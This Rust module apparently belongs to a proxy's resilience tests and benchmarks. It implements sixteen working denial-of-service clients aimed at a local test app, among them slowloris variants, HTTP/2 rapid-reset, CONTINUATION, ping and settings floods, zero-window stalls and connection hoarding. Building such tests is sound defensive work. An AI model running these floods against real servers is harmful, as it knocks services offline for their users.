//! Clients that mean harm: each way to make a server work, wait or remember for nothing, by many connections at once, until told to
//! stop. The same for the story that asserts what they cost and for the bench that measures it.

use std::{io, net::Ipv4Addr, sync::Arc, time::Duration};

use rustls::ClientConnection;
use rustls_pki_types::ServerName;
use tokio::{
    io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt},
    sync::{Semaphore, watch},
    task::JoinSet,
    time::{self, MissedTickBehavior},
};

use crate::{
    Https,
    raw::{PREFACE, SETTINGS},
};

/// Between two bytes of who is slow, and before a connection that was refused is tried again.
const SLOW: Duration = Duration::from_millis(200);

/// The connections that a proxy under attack has room for (`max_connections`).
pub const ROOM: usize = 256;

/// Streams of one connection that are left to wait.
const STALLED: u32 = 100;

/// The same of those that hoard bodies, and bytes of a piece of one.
const HOARDED: u32 = 4;
const PIECE: usize = 16 * 1024;
/// Bytes of bodies that may be sent over HTTP/2 before anything is granted (RFC 9113 §6.9.2).
const UNASKED: usize = 65_535;

/// How a connection goes on after its beginning.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Then {
    /// One piece after the other, as fast as they are taken.
    Pour,
    /// One piece now and then.
    Drip,
    /// Nothing, and nothing is read.
    Stall,
    /// As much of a body as is granted, in pieces of `PIECE` bytes, which nobody takes.
    Hoard,
    /// It is closed, and the next one opened.
    Leave,
    /// The same, once something is answered.
    LeaveAnswered,
}

/// One way.
#[derive(Debug, Clone, Copy)]
pub struct Attack {
    /// What it is called.
    pub name: &'static str,
    /// So many connections at once.
    pub connections: usize,
    /// They come from these addresses of 127.0.0.0/24, in turn; a healthy client is at the first.
    addresses: &'static [u8],
    /// So many requests are under way on each of them.
    pub requests: usize,
    /// The protocol that is asked for; none = no TLS at all.
    alpn: Option<&'static [u8]>,
    begin: fn(&Https) -> Vec<u8>,
    piece: fn(u32) -> Vec<u8>,
    then: Then,
}

impl Attack {
    /// Whether it is bodies that it leaves with the proxy.
    #[must_use]
    pub fn hoards(&self) -> bool {
        self.then == Then::Hoard
    }
}

const H1: Option<&[u8]> = Some(b"http/1.1");
const H2: Option<&[u8]> = Some(b"h2");

/// All of them.
pub const ALL: [Attack; 16] = [
    attack("connections", None, |_| Vec::new(), |_| Vec::new(), Then::Leave),
    attack("handshakes", H2, |_| Vec::new(), |_| Vec::new(), Then::Leave),
    attack("hellos", None, client_hello, |_| Vec::new(), Then::LeaveAnswered),
    attack(
        "slow-header",
        H1,
        |https| format!("GET / HTTP/1.1\r\nHost: {}\r\nX: ", https.authority("flooded")).into(),
        |_| b"y".into(),
        Then::Drip,
    ),
    attack("slow-body", H1, |https| posted(https, 1 << 20, 0), |_| b"y".into(), Then::Drip),
    attack("slow-read", H1, |https| posted(https, 1 << 20, 1 << 20), |_| Vec::new(), Then::Stall),
    attack(
        "rapid-reset",
        H2,
        |_| hello(SETTINGS),
        |number| [head(number, 5), reset(number)].concat(),
        Then::Pour,
    ),
    attack(
        "made-you-reset",
        H2,
        |_| hello(SETTINGS),
        |number| [head(number, 5), frame(8, 0, 2 * number + 1, &[0; 4])].concat(), // a window widened by nothing
        Then::Pour,
    ),
    attack("many-fields", H2, |_| hello(SETTINGS), crowded, Then::Pour),
    attack(
        "continuation",
        H2,
        |_| [hello(SETTINGS), head(0, 1)].concat(),
        |_| frame(9, 0, 1, &padding()),
        Then::Pour,
    ),
    attack("ping", H2, |_| hello(SETTINGS), |_| frame(6, 0, 0, b"12345678").repeat(64), Then::Pour),
    attack("settings", H2, |_| hello(SETTINGS), |_| SETTINGS.repeat(64), Then::Pour),
    attack(
        "empty-data",
        H2,
        |_| [hello(SETTINGS), head(0, 4)].concat(),
        |_| frame(0, 0, 1, b"").repeat(64),
        Then::Pour,
    ),
    attack("window-stall", H2, |_| stalled(), |_| Vec::new(), Then::Stall),
    Attack {
        connections: 120, // their app has a thread for each request
        requests: HOARDED as usize,
        ..attack("bodies-hoarded", H2, |_| hoarded(), hoarded_piece, Then::Hoard)
    },
    Attack {
        connections: 2 * ROOM,
        addresses: &[2, 3, 4, 5], // nobody may have all places alone, and who shares an address shares its fate
        requests: 0,
        ..attack("connections-hoarded", H1, |_| Vec::new(), |_| Vec::new(), Then::Stall)
    },
];

const fn attack(
    name: &'static str,
    alpn: Option<&'static [u8]>,
    begin: fn(&Https) -> Vec<u8>,
    piece: fn(u32) -> Vec<u8>,
    then: Then,
) -> Attack {
    let connections = if matches!(then, Then::Pour | Then::Leave | Then::LeaveAnswered) { 16 } else { 200 };
    let requests = if matches!((alpn, then), (Some(b"h2"), Then::Stall)) { STALLED as usize } else { 1 };
    Attack { name, connections, addresses: &[1], requests, alpn, begin, piece, then }
}

/// What a handshake begins with: it is costly for whoever answers, and next to nothing for who sends the same one ever again.
fn client_hello(https: &Https) -> Vec<u8> {
    let config = Arc::new(https.tls_config(&[b"h2"]));
    let name = ServerName::try_from(Https::name("flooded")).expect("it is a name");
    let mut hello = Vec::new();
    let mut client = ClientConnection::new(config, name).expect("a usable configuration");
    client.write_tls(&mut hello).expect("there is room in memory");
    hello
}

fn posted(https: &Https, length: usize, sent: usize) -> Vec<u8> {
    let host = https.authority("flooded");
    let head = format!("POST /echo HTTP/1.1\r\nHost: {host}\r\nContent-Length: {length}\r\n\r\n");
    [head.into_bytes(), vec![b'y'; sent]].concat()
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("frames are short").to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

fn hello(settings: &[u8]) -> Vec<u8> {
    [PREFACE, settings].concat()
}

/// The nth stream's `GET /` (HPACK without its tables). Flags: 1 = it has no body, 4 = the head is whole.
fn head(number: u32, flags: u8) -> Vec<u8> {
    frame(
        1,
        flags,
        2 * number + 1,
        &[&[0x82, 0x87, 0x84][..], &text(0x01, "flooded.yesterday.localhost")].concat(),
    )
}

/// A field's value behind the number of its name, or a name behind none.
fn text(name: u8, value: &str) -> Vec<u8> {
    [&[name, u8::try_from(value.len()).expect("it is short")], value.as_bytes()].concat()
}

fn reset(number: u32) -> Vec<u8> {
    frame(3, 0, 2 * number + 1, &[0, 0, 0, 8])
}

/// Fields that go on and on.
fn padding() -> Vec<u8> {
    [&[0x00, 1, b'x', 100][..], &[b'y'; 100]].concat().repeat(8)
}

/// The nth stream's request with as many fields as a frame has room for.
fn crowded(number: u32) -> Vec<u8> {
    let request = head(number, 5).split_off(9);
    frame(1, 5, 2 * number + 1, &[request, [0, 1, b'x', 1, b'y'].repeat(3_000)].concat())
}

/// Requests whose answers there is no room for.
fn stalled() -> Vec<u8> {
    let no_window = frame(4, 0, 0, &[0, 4, 0, 0, 0, 0]);
    [hello(&no_window), (0..STALLED).flat_map(|number| head(number, 5)).collect()].concat()
}

/// Bodies that their app takes nothing of.
fn hoarded() -> Vec<u8> {
    let fields =
        [&[0x83, 0x87][..], &text(0x01, "flooded.yesterday.localhost"), &text(0x04, "/deaf")].concat();
    [hello(SETTINGS), (0..HOARDED).flat_map(|number| frame(1, 4, 2 * number + 1, &fields)).collect()].concat()
}

fn hoarded_piece(number: u32) -> Vec<u8> {
    frame(0, 0, 2 * (number % HOARDED) + 1, &[b'y'; PIECE])
}

/// One that goes on.
#[derive(Debug)]
pub struct Flood {
    stop: watch::Sender<bool>,
    clients: JoinSet<()>,
}

impl Flood {
    /// Against the app `flooded`.
    #[must_use]
    pub fn start(https: &Https, attack: Attack) -> Self {
        let (stop, stopped) = watch::channel(false);
        let mut clients = JoinSet::new();
        for address in attack.addresses.iter().cycle().take(attack.connections) {
            let https = https.clone().calling_from(Ipv4Addr::new(127, 0, 0, *address).into());
            let mut stopped = stopped.clone();
            clients.spawn(async move {
                tokio::select! {
                    _ = stopped.wait_for(|stop| *stop) => {}
                    () = harm(https, attack) => {}
                }
            });
        }
        Self { stop, clients }
    }

    /// Ends it.
    pub async fn stop(mut self) {
        self.stop.send_replace(true);
        while self.clients.join_next().await.is_some() {}
    }
}

/// One connection after the other, for ever.
async fn harm(https: Https, attack: Attack) {
    let begin = (attack.begin)(&https);
    let mut pace = time::interval(SLOW);
    pace.set_missed_tick_behavior(MissedTickBehavior::Delay);
    loop {
        let gone = match attack.alpn {
            None => match https.tcp().await {
                Ok(stream) => converse(stream, attack, &begin).await,
                Err(_) => None,
            },
            Some(alpn) => match https.tls("flooded", &[alpn]).await {
                Ok(stream) => converse(stream, attack, &begin).await,
                Err(_) => None,
            },
        };
        if gone.is_none() && attack.then != Then::Leave {
            pace.tick().await; // sent away
        }
    }
}

/// None if the other side ended it.
async fn converse<S: AsyncRead + AsyncWrite>(stream: S, attack: Attack, begin: &[u8]) -> Option<()> {
    let (mut from, mut to) = tokio::io::split(stream);
    to.write_all(begin).await.ok()?;
    to.flush().await.ok()?;
    if attack.hoards() {
        return hoard(from, to, attack.piece).await;
    }
    let read = async {
        let mut piece = [0; 16 * 1024];
        while from.read(&mut piece).await.is_ok_and(|length| length > 0) {}
    };
    let say = async {
        let mut pace = time::interval(SLOW);
        for number in 0.. {
            if attack.then == Then::Drip {
                pace.tick().await;
            }
            to.write_all(&(attack.piece)(number)).await.ok()?;
            to.flush().await.ok()?;
        }
        Some(())
    };
    match attack.then {
        Then::Leave => Some(()),
        Then::LeaveAnswered => from.read_u8().await.ok().map(drop),
        Then::Stall => std::future::pending().await,
        Then::Pour | Then::Drip | Then::Hoard => tokio::select! { () = read => None, said = say => said },
    }
}

/// None if the other side ended it, which it has no cause to: all that is sent was granted.
async fn hoard(
    mut from: impl AsyncRead + Unpin,
    mut to: impl AsyncWrite + Unpin,
    piece: fn(u32) -> Vec<u8>,
) -> Option<()> {
    let granted = Semaphore::new(UNASKED);
    let read = async {
        loop {
            let (kind, stream, payload) = next_frame(&mut from).await.ok()?;
            if let (8, 0, Ok(more)) = (kind, stream, <[u8; 4]>::try_from(&*payload)) {
                granted.add_permits(u32::from_be_bytes(more) as usize);
            }
        }
    };
    let say = async {
        for number in 0.. {
            granted.acquire_many(PIECE as u32).await.ok()?.forget();
            to.write_all(&piece(number)).await.ok()?;
            to.flush().await.ok()?;
        }
        Some(())
    };
    tokio::select! { gone = read => gone, gone = say => gone }
}

/// The next frame's kind, stream and payload.
async fn next_frame(from: &mut (impl AsyncRead + Unpin)) -> io::Result<(u8, u32, Vec<u8>)> {
    let mut head = [0; 9];
    from.read_exact(&mut head).await?;
    let [a, b, c, kind, _, stream @ ..] = head;
    let mut payload = vec![0; u32::from_be_bytes([0, a, b, c]) as usize];
    from.read_exact(&mut payload).await?;
    Ok((kind, u32::from_be_bytes(stream), payload))
}
